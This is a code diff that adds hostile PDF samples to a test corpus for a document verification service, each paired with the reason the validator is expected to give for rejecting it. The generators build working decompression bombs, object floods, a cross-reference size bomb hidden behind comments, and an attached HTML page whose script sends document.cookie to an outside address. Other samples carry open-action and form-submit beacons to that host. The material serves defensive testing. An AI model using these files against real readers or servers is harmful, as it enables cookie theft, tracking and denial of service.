@@ -128,7 +128,7 @@ def launch_action() -> bytes:
 
 
 def embedded_file() -> bytes:
-    """Attachments are legitimate (annexes): accepted."""
+    """Attachments are refused (issue 12): a reader's viewer offers to open them; annexes are uploaded apart."""
     return one_page(catalog_extra=b"/Names << /EmbeddedFiles << /Names [(annex.txt) 5 0 R] >> >> ", more=[
         b"<< /Type /Filespec /F (annex.txt) /EF << /F 6 0 R >> >>", stream(b"annex", b"/Type /EmbeddedFile "),
     ])
@@ -212,6 +212,139 @@ def valid_vietnamese() -> bytes:
     return sample_pdf(3, title="Nghị quyết về đầu tư công")
 
 
+
+# --- issue 12: hostile files that passed the probe or hung the verifier ----------------------------
+
+
+def xref_stream_size_bomb(*, hidden: bool = False) -> bytes:
+    """A cross-reference stream declaring /Size and /Index of 2^31-1 entries for two real objects: pyHanko
+    (POST /api/verify) walked every declared entry, allocating without bound (~35 MB/s).
+
+    `hidden`: the numbers are put behind comments, which PDF syntax allows anywhere whitespace is, so a quick
+    scan of the bytes does not see them; only the sandbox's limits stop pyHanko then."""
+    out = bytearray(b"%PDF-1.7\n")
+    first = len(out)
+    out += b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
+    second = len(out)
+    out += b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
+    xref_at = len(out)
+    rows = b"\x00\x00\x00\x00\x00\x00" + b"".join(b"\x01" + off.to_bytes(4, "big") + b"\x00"
+                                                  for off in (first, second))
+    body = zlib.compress(rows)
+    size = b"/Size %x\n 2147483647 /Index %x\n [0 2147483647]" if hidden else b"/Size 2147483647 /Index [0 2147483647]"
+    out += (b"3 0 obj\n<< /Type /XRef " + size + b" /W [1 4 1] /Root 1 0 R "
+            b"/Filter /FlateDecode /Length %d >>\nstream\n" % len(body)) + body + b"\nendstream\nendobj\n"
+    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
+    return bytes(out)
+
+
+def _bomb_body(gigabytes: float = 1.07) -> bytes:
+    """A zlib stream of `gigabytes` of zero bytes in about 1 MB, built in constant memory (see
+    decompression_bomb for the technique)."""
+    segment_input = b"\x00" * (1 << 26)
+    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
+    segment = deflate.compress(segment_input) + deflate.flush(zlib.Z_FULL_FLUSH)
+    repeats = max(1, round(gigabytes * (1 << 30) / len(segment_input)))
+    n = repeats * len(segment_input)
+    a, b = 1, n % 65521  # Adler-32 of n zero bytes
+    return b"\x78\xda" + segment * repeats + deflate.flush() + struct.pack(">I", (b << 16) | a)
+
+
+def form_xobject_bomb() -> bytes:
+    """A page drawing a Form XObject whose content stream inflates to 1 GB (page content itself is small)."""
+    return _page_with_xobject(b"/X1", stream(_bomb_body(), b"/Type /XObject /Subtype /Form /BBox [0 0 100 100] "
+                                                         b"/Filter /FlateDecode "))
+
+
+def image_xobject_bomb() -> bytes:
+    """A page with an Image XObject of 16384 x 16384 RGB pixels (768 MB decoded) in about 1 MB of Flate."""
+    return _page_with_xobject(b"/Im1", stream(_bomb_body(0.75), b"/Type /XObject /Subtype /Image /Width 16384 "
+                                                               b"/Height 16384 /ColorSpace /DeviceRGB "
+                                                               b"/BitsPerComponent 8 /Filter /FlateDecode "))
+
+
+def _page_with_xobject(name: bytes, xobject: bytes) -> bytes:
+    """A one-page file whose page resources name `xobject` (object 5) as `name`, and whose content draws it."""
+    page = PAGE.replace(b"/Resources << >>", b"/Resources << /XObject << " + name + b" 5 0 R >> >>")
+    return assemble([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page,
+                     stream(b"q 100 0 0 100 0 0 cm " + name + b" Do Q"), xobject])
+
+
+def embedded_html_file() -> bytes:
+    """An attached HTML page with a script (what a reader's PDF viewer offers to open)."""
+    html = b"<html><body><script>fetch('http://198.51.100.7/x?'+document.cookie)</script></body></html>"
+    return one_page(catalog_extra=b"/Names << /EmbeddedFiles << /Names [(bieu-mau.html) 5 0 R] >> >> ", more=[
+        b"<< /Type /Filespec /F (bieu-mau.html) /UF (bieu-mau.html) /EF << /F 6 0 R >> >>",
+        stream(html, b"/Type /EmbeddedFile /Subtype /text#2Fhtml "),
+    ])
+
+
+def file_attachment_annotation() -> bytes:
+    return one_page(page_extra=b" /Annots [5 0 R]", more=[
+        b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 700 92 720] /FS 6 0 R >>",
+        b"<< /Type /Filespec /F (run.exe) /EF << /F 7 0 R >> >>", stream(b"MZ", b"/Type /EmbeddedFile "),
+    ])
+
+
+def xfa_javascript() -> bytes:
+    xdp = (b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
+           b'<script contentType="application/x-javascript">app.alert(1)</script></event></subform></template>'
+           b'</xdp:xdp>')
+    return one_page(catalog_extra=b"/AcroForm << /Fields [] /XFA 5 0 R >> ", more=[stream(xdp)])
+
+
+def openaction_uri() -> bytes:
+    """Opening the file calls an outside address (a read receipt to whoever made it)."""
+    return one_page(catalog_extra=b"/OpenAction << /S /URI /URI (http://198.51.100.7/opened) >> ")
+
+
+def submitform_beacon() -> bytes:
+    """A page-open additional action submitting the (empty) form to an outside host."""
+    return one_page(page_extra=b" /AA << /O << /S /SubmitForm /F << /FS /URL /F (http://198.51.100.7/s) >> >> >>")
+
+
+def gotor_link() -> bytes:
+    """A link annotation opening another (remote) file."""
+    return one_page(page_extra=b" /Annots [5 0 R]", more=[
+        b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A << /S /GoToR /F (\\\\\\\\198.51.100.7\\\\x.pdf) "
+        b"/D [0 /Fit] >> >>",
+    ])
+
+
+def uri_link() -> bytes:
+    """A link a reader clicks to open a web page: accepted, and the link is taken out of served copies."""
+    return one_page(page_extra=b" /Annots [5 0 R]", more=[
+        b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A << /S /URI /URI (http://198.51.100.7/law) >> >>",
+    ])
+
+
+def openaction_goto() -> bytes:
+    """A plain GoTo open action (what office suites write): accepted."""
+    return one_page(catalog_extra=b"/OpenAction [3 0 R /Fit] ")
+
+
+def small_object_flood(count: int = 300_000) -> bytes:
+    """`count` tiny objects, all reachable from the page: 1,000 holders of `count`/1,000 references each (pypdf
+    refuses longer arrays)."""
+    holders, per = 1000, count // 1000
+    first_leaf = 5 + holders
+    refs = b" ".join(b"%d 0 R" % n for n in range(5, first_leaf))
+    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+               PAGE[:-2] + b" /Junk [" + refs + b"] >>", stream(CONTENT)]
+    objects += [b"<< /K [" + b" ".join(b"%d 0 R" % (first_leaf + h * per + i) for i in range(per)) + b"] >>"
+                for h in range(holders)]
+    objects += [b"<< /N %d >>" % n for n in range(holders * per)]
+    return assemble(objects)
+
+
+def nested_dictionaries(depth: int = 200_000) -> bytes:
+    """A chain of `depth` dictionaries, each in its own object and pointing at the next, hung off the page."""
+    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+               PAGE[:-2] + b" /Deep 5 0 R >>", stream(CONTENT)]
+    objects += [b"<< /Next %d 0 R >>" % (n + 1) for n in range(5, 5 + depth - 1)] + [b"<< >>"]
+    return assemble(objects)
+
+
 CORPUS: dict[str, tuple[Callable[[], bytes], str | None]] = {
     "truncated": (truncated, "broken_pdf"),
     "wrong_xref": (wrong_xref, None),
@@ -224,7 +357,7 @@ CORPUS: dict[str, tuple[Callable[[], bytes], str | None]] = {
     "javascript_names_tree": (javascript_names_tree, "active_content"),
     "page_aa_javascript": (page_aa_javascript, "active_content"),
     "launch_action": (launch_action, "active_content"),
-    "embedded_file": (embedded_file, None),
+    "embedded_file": (embedded_file, "embedded_file"),
     "fake_pdf_png": (fake_pdf_png, "not_a_pdf"),
     "fake_pdf_html": (fake_pdf_html, "not_a_pdf"),
     "header_only": (header_only, "not_a_pdf"),
@@ -238,4 +371,18 @@ CORPUS: dict[str, tuple[Callable[[], bytes], str | None]] = {
     "no_pages": (no_pages, "broken_pdf"),
     "missing_root": (missing_root, "broken_pdf"),
     "valid_vietnamese": (valid_vietnamese, None),
+    # issue 12
+    "xref_stream_size_bomb": (xref_stream_size_bomb, "too_many_objects"),
+    "form_xobject_bomb": (form_xobject_bomb, "decompression_bomb"),
+    "image_xobject_bomb": (image_xobject_bomb, "image_too_large"),
+    "embedded_html_file": (embedded_html_file, "embedded_file"),
+    "file_attachment_annotation": (file_attachment_annotation, "embedded_file"),
+    "xfa_javascript": (xfa_javascript, "xfa_form"),
+    "openaction_uri": (openaction_uri, "automatic_action"),
+    "submitform_beacon": (submitform_beacon, "external_action"),
+    "gotor_link": (gotor_link, "external_action"),
+    "uri_link": (uri_link, None),
+    "openaction_goto": (openaction_goto, None),
+    "small_object_flood": (small_object_flood, "too_many_objects"),
+    "nested_dictionaries": (nested_dictionaries, "too_many_objects"),
 }
